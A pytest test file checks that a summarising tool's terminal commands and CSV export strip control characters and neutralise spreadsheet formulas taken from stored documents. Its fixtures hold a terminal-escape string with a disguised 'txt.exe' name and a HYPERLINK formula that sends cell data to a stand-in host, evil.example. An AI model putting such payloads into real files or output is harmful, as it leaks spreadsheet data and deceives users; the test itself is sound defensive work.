"""A hostile document in what people read: terminals, spreadsheets and pages show it, and run nothing of it."""

from __future__ import annotations

import csv
import subprocess

import pytest
from sqlalchemy import text

from tests.conftest import Cluster
from tests.fake_worker import describe_command
from tests.jobs import add_jobs
from tests.processes import PATIENCE

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202etxt.exe"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1)'


@pytest.fixture
def batch(cluster: Cluster) -> str:
    """A batch of one job whose source, title, summary and reason are attacks."""
    add_jobs(cluster.engine, ["A text to summarize."])
    attack = {"source": FORMULA + ESCAPES, "summary": FORMULA + ESCAPES, "reason": ESCAPES}
    with cluster.engine.begin() as connection:
        update = "UPDATE jobs SET state = 'partial', finished_at = now(), pending = 0, source = :source, "
        connection.execute(text(update + "summary = :summary, reason = :reason"), attack)
        connection.execute(text("UPDATE documents SET title = :title"), {"title": ESCAPES})
        return str(connection.execute(text("SELECT name FROM batches")).scalar_one())


def run_command(cluster: Cluster, *words: str) -> str:
    command = describe_command(
        "-m", "gistmill", *words, database_url=cluster.database_url, broker_url=cluster.broker_url
    )
    return subprocess.run(command, capture_output=True, text=True, check=True, timeout=PATIENCE).stdout


@pytest.mark.parametrize("words", [["status"], ["results"], ["show"]], ids=lambda words: words[0])
def test_a_terminal_gets_no_control_character_of_a_document(cluster: Cluster, batch: str, words: list[str]) -> None:
    shown = batch
    if words == ["show"]:
        with cluster.engine.connect() as connection:
            shown = str(connection.execute(text("SELECT id FROM jobs")).scalar_one())
    said = run_command(cluster, *words, shown)
    assert "HYPERLINK" in said or words == ["status"]
    assert set(said) & set("\x1b\x07\x9b\u202e") == set()


def test_a_spreadsheet_gets_no_formula_of_a_document(cluster: Cluster, batch: str) -> None:
    rows = list(csv.reader(run_command(cluster, "export", batch, "--format", "csv").splitlines()))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if "HYPERLINK" in cell and cell.startswith("=")] == []
    assert [cell for cell in cells if "'=HYPERLINK" in cell]
